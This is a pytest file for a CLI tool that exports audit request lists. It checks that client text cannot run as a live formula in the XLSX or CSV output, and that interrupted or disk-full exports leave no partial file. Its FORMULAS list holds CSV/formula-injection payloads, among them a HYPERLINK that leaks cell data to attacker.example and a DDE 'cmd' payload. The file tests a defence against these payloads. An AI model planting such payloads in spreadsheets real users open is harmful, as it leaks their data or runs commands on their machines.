"""Exports: what a client typed can never run as a formula or script in a file we hand out; an export
killed or out of disk leaves nothing at its final path."""

from __future__ import annotations

import csv
import zipfile
from pathlib import Path

import pytest

from .helpers import assert_ok, assert_one_line_error, invoke, popen_cli, run_cli
from .test_crash import delays, kill_after

FORMULAS = ['=HYPERLINK("http://attacker.example/?leak="&A1,"Click me")', "=1+1", "+1+1", "-2+3", "@SUM(A1:A2)",
            "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=IMPORTXML(CONCAT(\"http://x/?\",A1),\"//a\")"]
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")


def _pbc_csv(path: Path, n: int, texts: list[str] | None = None) -> Path:
    with open(path, "w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(["Request ID", "Request Description", "Owner", "Due Date", "Status", "Priority"])
        for i in range(n):
            t = texts[i % len(texts)] if texts else f"Evidence item {i}"
            w.writerow([f"PBC-{i:05d}", t, t if texts else f"Owner {i % 9}", "2026-12-01", "Open", t if texts else ""])
    return path


@pytest.fixture
def eng(engagement):
    engagement.close()
    return engagement


def _xlsx_cells(path: Path):
    from openpyxl import load_workbook

    wb = load_workbook(path)  # full mode: formulas would show as data_type "f"
    try:
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                yield from row
    finally:
        wb.close()


def _no_formula_parts(path: Path) -> None:
    """At the XML level too: no <f> element anywhere in the workbook."""
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in zf.read(name) and b"<f " not in zf.read(name), name


@pytest.mark.parametrize("open_only", [False, True])
def test_formula_cells_are_not_live_in_request_exports(eng, tmp_path, open_only):
    assert_ok(invoke("import", "requests", eng.slug, _pbc_csv(tmp_path / "pbc.csv", len(FORMULAS), FORMULAS)))
    flag = ["--open-only"] if open_only else []
    xlsx, csv_out = tmp_path / "out.xlsx", tmp_path / "out.csv"
    assert_ok(invoke("export-requests", eng.slug, "-o", xlsx, *flag))
    assert_ok(invoke("export-requests", eng.slug, "-o", csv_out, *flag))
    seen = 0
    for cell in _xlsx_cells(xlsx):
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            assert not cell.value.startswith(DANGEROUS_START), (cell.coordinate, cell.value)
            seen += any(f.strip() in cell.value for f in FORMULAS)
    assert seen >= len(FORMULAS)
    _no_formula_parts(xlsx)
    with open(csv_out, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    for row in rows:
        for value in row:
            assert not value.startswith(DANGEROUS_START), value
    # the text itself is kept, only disarmed
    assert any(v == "'" + FORMULAS[0] for row in rows for v in row)


def _export_args(eng, out: Path) -> list:
    return ["export-requests", eng.slug, "-o", out]


N_REQUESTS = 1500


@pytest.fixture(scope="module")
def _many_requests_template(_engagement_template, tmp_path_factory) -> Path:
    """The empty engagement with N_REQUESTS requests, imported once per module."""
    import shutil

    from fieldwork_tui.services.engagements import open_path
    from fieldwork_tui.services.requests.importer import import_requests

    work = tmp_path_factory.mktemp("many-requests")
    shutil.copytree(_engagement_template, work / "home")
    h = open_path(work / "home" / "acme-cloud-2026")
    try:
        import_requests(h, _pbc_csv(work / "pbc.csv", N_REQUESTS))
    finally:
        h.close()
    return work / "home"


@pytest.fixture
def many_requests(home, _many_requests_template):
    import shutil

    from fieldwork_tui.services.engagements import open_path

    shutil.copytree(_many_requests_template, home, dirs_exist_ok=True)
    eng = open_path(home / "acme-cloud-2026")
    eng.close()
    return eng


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_export_killed_leaves_nothing_at_the_final_path(many_requests, tmp_path, suffix):
    out_dir = tmp_path / "out"
    out_dir.mkdir()
    out = out_dir / f"open-items{suffix}"
    for delay in delays(3, 0.3, 2.5, f"export{suffix}"):
        proc = popen_cli(*_export_args(many_requests, out))
        finished = not kill_after(proc, delay)
        if out.exists():
            _assert_complete(out, N_REQUESTS)
            assert finished or out.stat().st_size > 0
            out.unlink()
    assert_ok(run_cli(*_export_args(many_requests, out)))
    _assert_complete(out, N_REQUESTS)


def _assert_complete(out: Path, n: int) -> None:
    if out.suffix == ".csv":
        with open(out, encoding="utf-8-sig", newline="") as fh:
            assert len(list(csv.reader(fh))) == n + 1
    else:
        from openpyxl import load_workbook

        wb = load_workbook(out, read_only=True)
        ws = wb.worksheets[0]
        ws.reset_dimensions()
        assert sum(1 for r in ws.iter_rows(values_only=True) if r and r[0] and str(r[0]).startswith("PBC-")) == n
        wb.close()


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_export_on_a_full_disk_fails_cleanly(many_requests, tiny_fs, suffix):
    # fill the tiny disk so the export cannot fit
    filler = tiny_fs / "filler"
    with open(filler, "wb") as fh:
        try:
            fh.write(b"x" * (2 << 20))
        except OSError:
            pass
    out = tiny_fs / f"open-items{suffix}"
    line = assert_one_line_error(run_cli(*_export_args(many_requests, out)), "disk full")
    assert "\n" not in line
    assert sorted(p.name for p in tiny_fs.iterdir()) == ["filler"]
